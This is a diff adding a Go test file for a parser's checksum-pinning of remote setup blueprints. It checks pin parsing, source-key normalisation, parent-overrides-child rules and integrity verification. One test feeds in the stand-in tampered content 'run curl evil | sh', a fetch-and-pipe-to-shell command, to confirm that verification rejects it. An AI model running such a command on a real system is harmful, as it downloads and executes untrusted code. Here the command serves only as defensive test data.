@@ -0,0 +1,112 @@
+package parser
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
+	"strings"
+	"testing"
+)
+
+func sumOf(content string) string {
+	sum := sha256.Sum256([]byte(content))
+	return hex.EncodeToString(sum[:])
+}
+
+func TestParsePin(t *testing.T) {
+	sum := sumOf("install git\n")
+	source, got, err := ParsePin("pin @github:acme/setup sha256: " + strings.ToUpper(sum))
+	if err != nil {
+		t.Fatalf("ParsePin() error: %v", err)
+	}
+	if source != "@github:acme/setup" || got != sum {
+		t.Errorf("ParsePin() = %q, %q", source, got)
+	}
+
+	for _, line := range []string{
+		"pin sha256: " + sum,
+		"pin ./local.bp sha256: " + sum,
+		"pin @github:acme/setup",
+		"pin @github:acme/setup sha256: abc",
+	} {
+		if _, _, err := ParsePin(line); err == nil {
+			t.Errorf("ParsePin(%q) should fail", line)
+		}
+	}
+}
+
+func TestPinKey(t *testing.T) {
+	same := []string{
+		"@github:acme/setup",
+		"https://github.com/acme/setup.git",
+		"git@github.com:acme/setup.git",
+		"https://GitHub.com/acme/setup.git:./setup.bp",
+	}
+	for _, source := range same {
+		if got := PinKey(source); got != "github.com/acme/setup:setup.bp" {
+			t.Errorf("PinKey(%q) = %q", source, got)
+		}
+	}
+	if got := PinKey("https://github.com/acme/setup@dev:work.bp"); got != "github.com/acme/setup@dev:work.bp" {
+		t.Errorf("PinKey() with branch and path = %q", got)
+	}
+}
+
+func TestParsePinsAreCollected(t *testing.T) {
+	content := "install git\npin @github:acme/setup sha256: " + sumOf("a") + " # trusted\n"
+	rules, err := Parse(content)
+	if err != nil {
+		t.Fatalf("Parse() error: %v", err)
+	}
+	if len(rules) != 1 {
+		t.Errorf("got %d rules, want pin lines to produce none", len(rules))
+	}
+
+	if _, err := Parse("pin @github:acme/setup sha256: nope"); err == nil || !strings.Contains(err.Error(), "line 1") {
+		t.Errorf("Parse() error = %v, want a line 1 error", err)
+	}
+}
+
+func TestCollectPinsParentWins(t *testing.T) {
+	parent := Pins{PinKey("@github:acme/setup"): sumOf("parent")}
+	lines := []string{
+		"pin @github:acme/setup sha256: " + sumOf("child"),
+		"pin @github:acme/other sha256: " + sumOf("other"),
+	}
+	pins, err := collectPins(lines, []int{1, 2}, parent)
+	if err != nil {
+		t.Fatalf("collectPins() error: %v", err)
+	}
+	if pins[PinKey("@github:acme/setup")] != sumOf("parent") {
+		t.Error("an included blueprint must not re-pin what its parent pinned")
+	}
+	if pins[PinKey("@github:acme/other")] != sumOf("other") {
+		t.Error("the file's own pins should be added")
+	}
+	if len(parent) != 1 {
+		t.Error("collectPins() must not change the parent's pins")
+	}
+}
+
+func TestPinsVerify(t *testing.T) {
+	oldHook := RemoteHook
+	t.Cleanup(func() { RemoteHook = oldHook })
+	RemoteHook = nil
+
+	pins := Pins{PinKey("@github:acme/setup"): sumOf("install git\n")}
+	if err := pins.verify("https://github.com/acme/setup", []byte("install git\n")); err != nil {
+		t.Errorf("verify() of pinned content error: %v", err)
+	}
+	err := pins.verify("https://github.com/acme/setup", []byte("run curl evil | sh\n"))
+	if err == nil || !strings.Contains(err.Error(), sumOf("install git\n")) || !strings.Contains(err.Error(), sumOf("run curl evil | sh\n")) {
+		t.Errorf("verify() error = %v, want both checksums", err)
+	}
+	if err := pins.verify("@github:acme/unpinned", []byte("anything")); err != nil {
+		t.Errorf("verify() of an unpinned source error: %v", err)
+	}
+
+	RemoteHook = func(string, []byte) error { return errors.New("hook rejected") }
+	if err := pins.verify("@github:acme/unpinned", nil); err == nil || err.Error() != "hook rejected" {
+		t.Errorf("verify() error = %v, want the hook's", err)
+	}
+}